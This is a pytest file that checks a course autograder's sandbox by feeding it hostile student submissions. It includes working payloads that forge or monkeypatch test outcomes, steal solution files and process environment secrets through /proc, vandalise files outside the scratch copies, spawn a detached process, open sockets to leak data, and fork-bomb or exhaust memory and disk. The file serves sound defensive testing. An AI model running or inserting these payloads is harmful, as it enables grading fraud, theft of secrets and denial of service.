"""tools/grade.py against hostile submissions (issue 17): each contained, each tamperer flagged.

Two grading runs, each with ONE honest fully solved submission beside the attackers (blank
templates plus the attack, cheap to check). Contained means: the honest one keeps all its
points, no byte of the solutions reaches any output, nothing is written outside the scratch
copies, no connection is made, nothing is left running, and the grader finishes in time.
"""

import csv
import importlib
import json
import os
import shutil
import socket
import uuid
import zipfile
from pathlib import Path

import pytest
from grading_helpers import ALL, REPO_ROOT, append, full, grade_run, points, processes_with, write_student_files

from utils.internals.subtasks import STUDENT_FILES

sandbox = importlib.import_module("grader.sandbox")  # tools/ is on sys.path once grading_helpers is imported
pytestmark = [pytest.mark.instructor, pytest.mark.slow]
MARKER = f"vandal-{uuid.uuid4().hex[:12]}"

FORGER = """
def count_labels(*args, **kwargs):
    # The issue's forger: the outcome file's path from sys.argv, every test "passed", then os._exit;
    # and, smarter, the same lines written to every descriptor it can find.
    import glob, json, os, sys
    passed = {"status": "passed", "detail": "", "where": None}
    ids = []
    for path in glob.glob("tests/*/test_*.py"):
        ids += [f"{path}::{line.split('(')[0][4:]}" for line in open(path) if line.startswith("def test_")]
    for argument in sys.argv:
        if argument.endswith((".json", ".jsonl")):
            with open(argument, "w") as handle:
                json.dump({"tests": {nodeid: passed for nodeid in ids}}, handle)
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            for nodeid in ids:
                try:
                    os.write(int(name), (json.dumps({"start": nodeid}) + "\\n").encode())
                    os.write(int(name), (json.dumps({"test": nodeid, "outcome": passed}) + "\\n").encode())
                except OSError:
                    break
    os._exit(0)
"""

SENDER = """
def _rewrite_every_outcome_as_passed():
    # A reviewer's attack: reach the grader's plugin through os.sys.modules under a split name, and wrap
    # its _send so that every outcome it reports says "passed".
    import os
    plugin = os.sys.modules.get("grad" + "ing_plugin")
    if plugin is None or getattr(plugin, "_wrapped", False):
        return
    original = plugin._send

    def send(entry):
        if isinstance(entry, dict) and isinstance(entry.get("outcome"), dict):
            entry["outcome"] = {"status": "passed", "detail": "", "where": None}
        original(entry)

    plugin._send, plugin._wrapped = send, True


_rewrite_every_outcome_as_passed()
"""

PATCHER = """
import _pytest.reports as _reports

_original_init = _reports.TestReport.__init__


def _always_passed(self, *args, **kwargs):
    _original_init(self, *args, **kwargs)
    self.outcome, self.longrepr = "passed", None


_reports.TestReport.__init__ = _always_passed
"""

THIEF = """
def _steal():
    import glob, os, sys
    from pathlib import Path
    prefix = Path(sys.prefix)
    places = [prefix.parent / "solutions/fnn.py", prefix.parent.parent / "solutions/fnn.py"]
    for process in glob.glob("/proc/[0-9]*"):
        places += [Path(process, "cwd/solutions/fnn.py"), Path(process, "cwd/../solutions/fnn.py"),
                   Path(process, "root/work/main/solutions/fnn.py")]
    places += [Path(path) for depth in range(1, 5) for path in glob.glob("/*" * depth + "/solutions/fnn.py")]
    loot = []
    for place in places:
        try:
            loot.append(place.read_text())
        except OSError:
            pass
    for process in glob.glob("/proc/[0-9]*/environ"):
        try:
            loot.append(open(process, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    loot = " | ".join(loot).replace("\\n", " ")
    print(loot)
    raise RuntimeError("loot: " + loot)


_steal()
"""

VANDAL = """
def count_labels(*args, **kwargs):
    import glob, os
    from pathlib import Path
    seen = 0
    tops = ["/", "/tmp", os.environ.get("HOME", "/tmp"), "..", "../..", "../../..", "/grading", "/work", "/root",
            *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/cwd/..")]
    for top in tops:
        for folder, subfolders, files in os.walk(top):
            seen += 1
            if seen > 3000 or folder.count("/") > 5:
                subfolders[:] = []
                continue
            place = Path(folder)
            for action in (lambda: (place / "MARKER.txt").write_text("x"),
                           lambda: os.mkfifo(place / "stdout.txt"),
                           lambda: os.symlink("/dev/zero", place / "outcomes.json")):
                try:
                    action()
                except OSError:
                    pass
            for name in files:
                if name in ("checks.py", "grading_plugin.py", "grades.csv", "conftest.py"):
                    try:
                        with open(place / name, "a") as handle:
                            handle.write("\\nraise SystemExit('vandal')\\n")
                    except OSError:
                        pass
    raise NotImplementedError("TODO 1b: count the labels")
""".replace("MARKER", MARKER)

ESCAPEE = """
def show_example_images(*args, **kwargs):
    import os, sys, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", "MARKER"])
        os._exit(0)
    time.sleep(0.5)
    raise NotImplementedError("TODO 1a: show the images")
"""

CALLER = """
def show_example_images(*args, **kwargs):
    import socket
    hosts = ["127.0.0.1", "::1", "10.0.2.2", "172.17.0.1"]
    try:
        hosts += socket.gethostbyname_ex(socket.gethostname())[2]
    except OSError:
        pass
    for host in hosts:
        try:
            socket.create_connection((host, PORT), timeout=2).sendall(b"leak")
        except OSError:
            pass
    raise NotImplementedError("TODO 1a: show the images")
"""

FORK_BOMB = """
def show_example_images(*args, **kwargs):
    import os, time
    try:
        for _ in range(100_000):
            if os.fork() == 0:
                time.sleep(900)
                os._exit(0)
    except OSError:
        pass
    raise NotImplementedError("TODO 1a: show the images")
"""

MEMORY_HOG = """
def show_example_images(*args, **kwargs):
    import mmap, time
    blocks = []
    for _ in range(12):  # 6 GB, each block faulted in by the kernel as it is mapped: over the limit in a second
        blocks.append(mmap.mmap(-1, 500 << 20, flags=mmap.MAP_SHARED | mmap.MAP_POPULATE))
        time.sleep(0.02)
    raise NotImplementedError("TODO 1a: show the images")
"""

# Solved subtasks whose tests are quick (none trains on all of MNIST): honest beside a 10 s test limit.
QUICK = ("1a", "2a", "2b", "2c", "3a", "3b", "3c", "3d", "4a", "4b", "bonus_a", "bonus_c", "bonus_g")

HANGING_LAYER = """
def _dense_layer(*args, **kwargs):
    while True:
        pass
"""

DISK_FILLER = """
def count_labels(*args, **kwargs):
    import itertools, time
    for number in itertools.count():
        with open(f"filler{number}.bin", "wb") as handle:
            handle.write(bytes(10 << 20))
        time.sleep(0.02)
"""


def solved_zip(base, path):
    solved = write_student_files(base / "solved-files" / "assignment-solved", "all")
    with zipfile.ZipFile(path, "w") as archive:
        for file in STUDENT_FILES:
            archive.write(solved / file, f"assignment-solved/{file}")


def blank_with(folder, file, code):
    write_student_files(folder)
    append(folder / file, code)
    return folder


def rows_of(out):
    with open(out / "grades.csv", newline="") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


def outputs(out, skip=("solved",)):
    """The text of every file grading wrote, but the honest solved submission's own folder."""
    texts = {}
    for path in out.rglob("*"):
        if path.is_file() and path.relative_to(out).parts[0] not in skip:
            texts[path] = path.read_text(errors="replace")
    return texts


def solution_lines():
    """Lines of the reference fnn.py that no template holds (its fenced code): none may leak."""
    inside, lines = False, []
    for line in (REPO_ROOT / "solutions" / "fnn.py").read_text().splitlines():
        if "### BEGIN SOLUTION" in line:
            inside = True
        elif "### END SOLUTION" in line:
            inside = False
        elif inside and len(line.strip()) >= 20:
            lines.append(line.strip())
    return ["### BEGIN SOLUTION", *lines]


def marker_files():
    """Files of the vandal's marker anywhere it could have reached from here."""
    found = []
    for top, depth in ((Path("/tmp"), 3), (Path.home(), 2), (REPO_ROOT, 3), (Path("/"), 1)):
        stack = [(top, 0)]
        while stack:
            folder, level = stack.pop()
            try:
                entries = list(os.scandir(folder))
            except OSError:
                continue
            for entry in entries:
                if MARKER in entry.name:
                    found.append(entry.path)
                if entry.is_dir(follow_symlinks=False) and level < depth and entry.name not in (".venv", "proc"):
                    stack.append((Path(entry.path), level + 1))
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    problem = sandbox.check_mode("bwrap")
    if problem:
        pytest.skip(f"no sandbox can be made here, so hostile code is not run: {problem}")
    base = tmp_path_factory.mktemp("hostile")
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    first = base / "first"
    first.mkdir()
    solved_zip(base, first / "solved.zip")
    blank_with(first / "forger", "01_main.py", FORGER)
    blank_with(first / "patcher", "fnn.py", PATCHER)
    blank_with(first / "sender", "fnn.py", SENDER)
    blank_with(first / "thief", "fnn.py", THIEF)
    blank_with(first / "vandal", "01_main.py", VANDAL)
    blank_with(first / "escapee", "01_main.py", ESCAPEE.replace("MARKER", MARKER))
    blank_with(first / "caller", "01_main.py", CALLER.replace("PORT", str(port)))
    half = write_student_files(first / "half" / "assignment-half", ("1a", "1b", "3a", "3b", "3c", "3d"))
    borrower = write_student_files(first / "borrower")
    shutil.rmtree(borrower / "utils")
    (borrower / "utils").symlink_to(half / "utils")
    with zipfile.ZipFile(first / "grades.csv.zip", "w") as archive:
        archive.writestr("fnn.py", "")
    write_student_files(first / "Twin")
    write_student_files(first / "twin")
    write_student_files(first / "feedback")
    second = base / "second"
    second.mkdir()
    write_student_files(second / "quick", QUICK)
    hanging = write_student_files(second / "hanging", "all")
    append(hanging / "fnn.py", HANGING_LAYER)
    blank_with(second / "forkbomb", "01_main.py", FORK_BOMB)
    blank_with(second / "hog", "01_main.py", MEMORY_HOG)
    blank_with(second / "disk", "01_main.py", DISK_FILLER)
    crashing = blank_with(second / "crashing", "01_main.py", "def count_labels(*args, **kwargs):\n    import os\n"
                          "    os._exit(3)\n")
    append(crashing / "bonus_g_regression.py",
           "import sys\nOneHotMSELoss.forward = lambda self, *args, **kwargs: sys.exit(3)\n")
    write_student_files(first / "blank")
    tampered = write_student_files(first / "tampered")
    (tampered / "tests" / "subtasks").mkdir(parents=True)
    for test in (REPO_ROOT / "tests" / "subtasks").glob("test_*.py"):
        (tampered / "tests" / "subtasks" / test.name).write_text("def test_fine():\n    pass\n")
    (tampered / "tests" / "conftest.py").write_text("")
    runs = {"first": grade_run(first, base / "out-first", "--jobs", "2", "--no-progress", "--test-timeout", "120"),
            "second": grade_run(second, base / "out-second", "--jobs", "2", "--no-progress", "--test-timeout", "10",
                                "--memory-mb", "1500", "--disk-mb", "300")}
    connections = []
    while True:
        try:
            connections.append(listener.accept())
        except OSError:
            break
    listener.close()
    return base, runs, connections


def test_the_honest_submissions_keep_all_their_points(hostile):
    _, runs, _ = hostile
    row = rows_of(runs["first"][0])["solved"]
    assert points(row) == full(ALL) and row["status"] == "ok" and row["review"] == "", row
    row = rows_of(runs["second"][0])["quick"]
    assert points(row) == {**dict.fromkeys(ALL, 0.0), **full(QUICK)} and row["status"] == "ok", row


def test_blank_and_test_tampering_submissions_get_nothing(hostile):
    _, runs, _ = hostile
    rows = rows_of(runs["first"][0])
    for name in ("blank", "tampered"):
        assert points(rows[name]) == dict.fromkeys(ALL, 0.0) and rows[name]["status"] == "ok", rows[name]
        assert rows[name]["review"] == ""


def test_the_gradebook_has_a_column_per_subtask_and_a_review_column(hostile):
    _, runs, _ = hostile
    for out, result in runs.values():
        header = (out / "grades.csv").read_text().splitlines()[0]
        assert header == ",".join(["submission", *ALL, "total", "status", "review"])
        for row in rows_of(out).values():
            assert float(row["total"]) == sum(float(row[tag]) for tag in ALL)
        assert "mean points per subtask" in result.stdout and "sandbox: bubblewrap" in result.stdout
        assert (out / "summary.txt").read_text().strip() in result.stdout


def test_feedback_and_gradescope_results_for_every_graded_submission(hostile):
    _, runs, _ = hostile
    for out, _ in runs.values():
        for name, row in rows_of(out).items():
            if row["status"].startswith("refused"):
                assert not (out / name / "results.json").exists()
                continue
            results = json.loads((out / name / "results.json").read_text())
            numbers = [test["number"] for test in results["tests"]]
            assert [number for number in numbers if not number.endswith(".public")] == ALL
            # A subtask with hidden checks (tests/grading/) also gets a 0-point entry for its public checks, first.
            assert all(numbers[numbers.index(number) + 1] == number.removesuffix(".public")
                       for number in numbers if number.endswith(".public"))
            assert all({"name", "score", "max_score", "status", "output", "visibility"} <= set(test)
                       for test in results["tests"])
            assert results["score"] == float(row["total"]) == sum(test["score"] for test in results["tests"])
            feedback = (out / "feedback" / f"{name}.md").read_text()
            assert f"**{float(row['total']):g} points**" in feedback
            assert feedback.count("\n| ") == len(ALL) + 1
            assert len((out / name / "output.txt").read_text()) <= 20_000 + 200


def test_a_crash_costs_only_the_subtask_of_the_test_that_crashed(hostile):
    _, runs, _ = hostile
    out, _ = runs["second"]
    row = rows_of(out)["crashing"]
    assert row["status"].startswith("crashed: exit code 3"), row
    feedback = (out / "feedback" / "crashing.md").read_text()
    assert "| 1b label counts per split | crashed | 0 / 1 | crashed (exit code 3) while test_" in feedback
    assert "| 2a one dense layer | not started |" in feedback, "the checks went on after the crash"
    assert "| bonus_g classification as regression | failing |" in feedback, "sys.exit fails only its test"


def test_forged_outcomes_and_patched_reports_earn_nothing_and_are_flagged(hostile):
    _, runs, _ = hostile
    out, result = runs["first"]
    rows = rows_of(out)
    for name, file, reaches in (("forger", "01_main.py", ("sys.argv", "os._exit", "/proc")),
                                ("patcher", "fnn.py", ("_pytest",)),
                                ("sender", "fnn.py", (".sys", ".modules"))):
        assert float(rows[name]["total"]) == 0, (name, rows[name])
        assert all(what in rows[name]["review"] for what in reaches), rows[name]["review"]
        assert f"  {name}: {file}:" in result.stdout, "the summary names the file and line"
    assert "outcome channel" in rows["forger"]["review"], "what it wrote on the channel was out of order"


def test_no_byte_of_the_solutions_reaches_any_output(hostile):
    base, runs, _ = hostile
    for out, result in runs.values():
        texts = {**outputs(out), "stdout": result.stdout, "stderr": result.stderr}
        for path, text in texts.items():
            for line in solution_lines():
                assert line not in text, (path, line)
    thief = json.loads((runs["first"][0] / "thief" / "outcomes.json").read_text())
    assert "loot" in json.dumps(thief), "the thief ran"
    assert "sys.prefix" in rows_of(runs["first"][0])["thief"]["review"]


def test_nothing_is_written_outside_the_scratch_copies(hostile):
    base, runs, _ = hostile
    assert marker_files() == []
    for path in base.rglob("*"):
        assert path.name not in ("stdout.txt", "MARKER.txt") and MARKER not in path.name, path
    assert float(rows_of(runs["first"][0])["half"]["total"]) > 0, "graded beside the vandal, the half one scores"
    assert "/proc" in rows_of(runs["first"][0])["vandal"]["review"]


def test_no_connection_is_made_and_nothing_is_left_running(hostile):
    _, runs, connections = hostile
    assert connections == []
    assert processes_with(MARKER) == [], "the detached child died with its sandbox"
    assert "socket" in rows_of(runs["first"][0])["caller"]["review"]
    assert "os.setsid" in rows_of(runs["first"][0])["escapee"]["review"]


def test_links_clashing_and_reserved_names_are_refused_and_the_others_still_graded(hostile):
    _, runs, _ = hostile
    out, result = runs["first"]
    rows = rows_of(out)
    assert rows["borrower"]["status"].startswith("unreadable: the submission holds a link (utils)")
    assert float(rows["borrower"]["total"]) == 0
    for name in ("Twin", "twin"):
        assert rows[name]["status"].startswith("refused: its name differs from"), rows[name]
    assert rows["grades.csv"]["status"].startswith("refused: the name 'grades.csv.zip'")
    assert rows["feedback"]["status"].startswith("refused: the name 'feedback'")
    assert "refused: grades.csv:" in result.stdout and "refused: Twin:" in result.stdout
    assert (out / "feedback").is_dir() and not (out / "grades.csv").is_dir()


def test_one_hang_costs_only_the_subtasks_of_the_tests_that_hang(hostile):
    _, runs, _ = hostile
    out, _ = runs["second"]
    row = rows_of(out)["hanging"]
    assert row["status"].startswith("timed out"), row
    assert points(row, ("1a", "1b", "4a", "4b")) == full(("1a", "1b", "4a", "4b")), row
    assert float(row["2a"]) == 0
    feedback = (out / "feedback" / "hanging.md").read_text()
    assert "| 2a one dense layer | timed out | 0 / 2 | timed out after 10 s while test_" in feedback


def test_fork_bombs_memory_hogs_and_disk_fillers_are_stopped_and_cost_only_their_tests(hostile):
    _, runs, _ = hostile
    out, _ = runs["second"]
    rows = rows_of(out)
    assert float(rows["forkbomb"]["total"]) == 0 and "os.fork" in rows["forkbomb"]["review"]
    assert "| 2a one dense layer | not started |" in (out / "feedback" / "forkbomb.md").read_text()
    assert rows["hog"]["status"].startswith("out of memory"), rows["hog"]
    assert "mmap" in rows["hog"]["review"]
    assert rows["disk"]["status"].startswith("disk full"), rows["disk"]
    for name, tag in (("hog", "1a"), ("disk", "1b")):
        feedback = (out / "feedback" / f"{name}.md").read_text()
        assert "| 2a one dense layer | not started |" in feedback, (name, "the checks went on")
        assert f"| {tag} " in feedback
